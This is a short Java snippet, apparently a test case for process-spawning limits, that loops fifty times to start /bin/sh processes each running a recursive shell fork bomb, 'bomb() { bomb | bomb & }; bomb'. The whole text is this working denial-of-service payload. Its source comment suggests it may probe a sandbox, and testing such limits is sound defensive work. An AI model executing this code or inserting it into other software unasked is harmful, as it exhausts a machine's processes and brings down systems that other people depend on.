// Starts processes that start processes.
// ends: COMPLETE
for (int i = 0; i < 50; i++) {
    new ProcessBuilder("/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb").start();
}
